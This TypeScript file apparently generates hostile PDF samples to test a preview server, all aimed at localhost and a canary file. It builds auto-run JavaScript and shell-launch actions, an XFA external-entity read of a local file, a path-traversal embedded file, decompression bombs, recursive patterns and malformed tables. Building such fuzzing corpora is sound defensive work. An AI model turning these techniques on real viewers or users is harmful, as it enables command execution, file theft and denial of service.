import { deflateSync } from 'node:zlib'
import { pdfFile as file, pdfPage as page } from './pdf-page.ts'
import {
  bombPdf,
  endlessPdf,
  lockedPdf,
  loopingPdf,
  pdf,
  pdfOf,
  stream,
} from '../../server/testing/preview/pdf-samples.ts'
import { plantedName } from './canaries.ts'
import type { Family, Making } from './corpus-file.ts'

/** Returns a JPEG whose frame claims to be 65,535 by 65,535. */
function claimedJpeg(jpeg: Buffer): Buffer {
  const grown = Buffer.from(jpeg)
  for (const frame of [0xc0, 0xc2]) {
    const at = grown.indexOf(Buffer.from([0xff, frame]))
    if (at > 0) grown.fill(0xff, at + 5, at + 9)
  }
  return grown
}

/** Actions, links and files that lead out of a PDF. */
export const pdfActions: Family = function* ({ targets }) {
  const home = `http://127.0.0.1:${targets.port}/`
  const actions = [
    `/S /JavaScript /JS (app.launchURL("${home}"); this.submitForm("${home}"); SOAP.request("${home}");)`,
    `/S /URI /URI (${home})`,
    `/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c touch /tmp/${plantedName}) >>`,
    `/S /GoToR /F (${targets.file}) /D [0 /Fit]`,
    `/S /GoToE /F (${targets.file}) /T << /R /C /N (a) >>`,
    `/S /SubmitForm /F << /FS /URL /F (${home}) >> /Flags 4`,
    `/S /ImportData /F (${targets.file})`,
    `/S /Thread /F (${targets.file}) /D 0`,
    '/S /Named /N /Print',
    '/S /Hide /T (a)',
  ]
  for (const action of actions) {
    const name = /\/S \/(\w+)/.exec(action)?.[1] ?? ''
    yield file(`${name} as it opens`, pdfOf(['a'], { catalogue: `/OpenAction << ${action} >>` }))
    yield file(
      `${name} before it closes`,
      pdfOf(['a'], { catalogue: `/AA << /WC << ${action} >> /DP << ${action} >> >>` }),
    )
  }
  const external = `<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F << /FS /URL /F (${home}a.png) >> /Length 0 >>\nstream\n\nendstream`
  yield file('a picture that is elsewhere', page('/XObject << /X 5 0 R >>', '/X Do', external))
  yield file(
    'contents that are another file',
    page('', '', `<< /F (${targets.file}) /Length 0 >>\nstream\n\nendstream`),
  )
  yield file(
    'a form of XFA',
    pdfOf(['a'], {
      catalogue: `/AcroForm << /XFA (<!DOCTYPE x [<!ENTITY a SYSTEM "file://${targets.file}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><x>&a;</x></xdp:xdp>) /Fields [] >>`,
    }),
  )
  yield file(
    'an embedded program',
    pdfOf(['a'], {
      catalogue: `/Names << /EmbeddedFiles << /Names [(${plantedName}) << /F (../../tmp/${plantedName}) /EF << /F 5 0 R >> >>] >> >>`,
    }),
  )
  yield file(
    'metadata with entities',
    pdfOf(['a'], {
      catalogue: `/Metadata << /Type /Metadata /Subtype /XML >> /URI << /Base (${home}) >>`,
    }),
  )
}

/** Pages without an end, sizes, trees that are their own branch, filters on filters, patterns in patterns. */
export const pdfBombs: Family = function* (making: Making) {
  yield file('pages that draw pages', endlessPdf)
  yield file('a picture of 30,000 by 30,000', bombPdf)
  yield file('a tree that is its own branch', loopingPdf)
  yield file('a password', lockedPdf)
  for (const count of [0, -1, 21, 5000, 2_147_483_647])
    yield file(`says ${count} pages`, pdfOf(['a'], { count }))
  for (const pages of [21, 400, 3000])
    yield file(`${pages} pages`, pdfOf(Array.from({ length: pages }, (_, at) => `第 ${at} 页`)))
  for (const size of [
    [0, 0],
    [1, 65_000],
    [65_000, 1],
    [0.001, 0.001],
    [1e12, 1e12],
    [-600, -800],
    [1e38, 5],
  ] as const)
    yield file(`a page of ${size.join(' × ')}`, pdfOf(['a'], { size }))
  for (const user of [0, 1e9, -5])
    yield file(`units of ${user}`, pdfOf(['a'], { catalogue: `/UserUnit ${user}` }))
  for (const depth of [100, 5000, 100_000]) {
    yield file(
      `arrays ${depth} deep`,
      pdfOf(['a'], { catalogue: `/A ${'['.repeat(depth)}${']'.repeat(depth)}` }),
    )
    yield file(
      `states ${depth} deep`,
      page('', 'q '.repeat(depth) + '0 0 9 9 re f ' + 'Q '.repeat(depth)),
    )
    yield file(`strings ${depth} deep`, pdfOf(['('.repeat(depth)]))
  }
  for (const copies of [1000, 300_000]) {
    yield file(`${copies} lines`, page('', '0 0 m 600 800 l S '.repeat(copies)))
    yield file(
      `${copies} curves, dashed`,
      page(
        '',
        `[0.001 0.001] 0 d ${'0 0 m 9 900 800 1 600 800 c S '.repeat(Math.min(copies, 20_000))}`,
      ),
    )
    yield file(
      `${copies} letters`,
      page(
        '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>',
        `BT /F 900 Tf ${'(W) Tj '.repeat(Math.min(copies, 50_000))} ET`,
      ),
    )
  }
  let bomb = Buffer.alloc(50 * 1024 * 1024, ' ')
  for (let filters = 1; filters <= 4; filters += 1) {
    bomb = deflateSync(bomb, { level: 9 })
    yield file(
      `contents behind ${filters} filters`,
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R >>',
        stream(bomb, `/Filter [${'/FlateDecode '.repeat(filters)}]`),
      ]),
    )
  }
  const image = (filter: string, content: Buffer, side = 30_000) =>
    page(
      '/XObject << /X 5 0 R >>',
      '600 0 0 800 0 0 cm /X Do',
      stream(
        content,
        `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /${filter}`,
      ),
    )
  const random = Buffer.from(Array.from({ length: 4000 }, () => making.chance.below(256)))
  for (const filter of [
    'JBIG2Decode',
    'JPXDecode',
    'CCITTFaxDecode',
    'DCTDecode',
    'LZWDecode',
    'RunLengthDecode',
    'ASCII85Decode',
    'ASCIIHexDecode',
    'Crypt',
    'Nonsense',
  ])
    for (const side of [64, 30_000, 65_500])
      yield file(`a picture of ${side} by ${filter}`, image(filter, random, side))
  yield file(
    'a JPEG that claims 65,535',
    image('DCTDecode', claimedJpeg(making.ordinary.get('image/jpeg') ?? random)),
  )
  // JBIG2 segments with many symbols, as the attack of 2021 had them.
  const symbols = Buffer.concat([
    Buffer.from('00000000000001000000ff', 'hex'),
    Buffer.alloc(3000, 0xa5),
  ])
  yield file('symbols of JBIG2', image('JBIG2Decode', symbols, 600))
  const loop =
    '<< /Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 5 0 R >> >>'
  yield file(
    'a pattern in itself',
    page(
      '/Pattern << /P 5 0 R >>',
      '/Pattern cs /P scn 0 0 600 800 re f',
      stream('/Pattern cs /P scn 0 0 600 800 re f', loop.slice(3)),
    ),
  )
  yield file(
    'a form in itself',
    page(
      '/XObject << /X 5 0 R >>',
      '/X Do',
      stream(
        '/X Do /X Do',
        '/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X 5 0 R >> >>',
      ),
    ),
  )
  for (const kind of [1, 2, 3, 4, 5, 6, 7])
    yield file(
      `a shading of kind ${kind} with a function that does not end`,
      page(
        '/Shading << /S 5 0 R >>',
        '/S sh',
        stream(
          Buffer.alloc(200_000, 7),
          `/ShadingType ${kind} /ColorSpace /DeviceRGB /Coords [0 0 600 800 5 9] /BitsPerCoordinate 32 /BitsPerComponent 16 /BitsPerFlag 8 /Decode [0 9 0 9 0 1 0 1 0 1] /VerticesPerRow 2 /Function 6 0 R`,
        ),
        stream(
          `{ ${'dup mul '.repeat(50_000)} }`,
          '/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]',
        ),
      ),
    )
  for (const [version, length] of [
    [1, 40],
    [2, 128],
    [4, 128],
    [5, 256],
    [6, 256],
    [99, 8],
  ] as const)
    yield file(
      `locked by version ${version}`,
      pdfOf(['a'], {
        trailer: `/Encrypt << /Filter /Standard /V ${version} /R ${version} /Length ${length} /P -44 /O <${'5a'.repeat(48)}> /U <${'a5'.repeat(48)}> /OE <${'11'.repeat(32)}> /UE <${'11'.repeat(32)}> /Perms <${'22'.repeat(16)}> /CF << /StdCF << /CFM /AESV3 /Length 32 >> >> /StmF /StdCF /StrF /StdCF >> /ID [<01> <01>]`,
      }),
    )
  const whole = pdfOf(['a'])
  for (const start of ['0', '99999999999', '-1', 'x'])
    yield file(
      `a table at ${start}`,
      Buffer.from(
        whole.toString('latin1').replace(/startxref\n\d+/, `startxref\n${start}`),
        'latin1',
      ),
    )
  yield file(
    'a table of 2 billion rows',
    Buffer.from(whole.toString('latin1').replace(/xref\n0 \d+/, 'xref\n0 2000000000'), 'latin1'),
  )
  yield file(
    'a table before itself',
    Buffer.from(whole.toString('latin1').replace('/Root', '/Prev 9 /XRefStm 9 /Root'), 'latin1'),
  )
  yield file(
    'an outline that is its own next',
    pdfOf(['a'], {
      catalogue:
        '/Outlines << /First 1 0 R /Last 1 0 R /Count 999999999 >> /First 1 0 R /Next 1 0 R',
    }),
  )
}
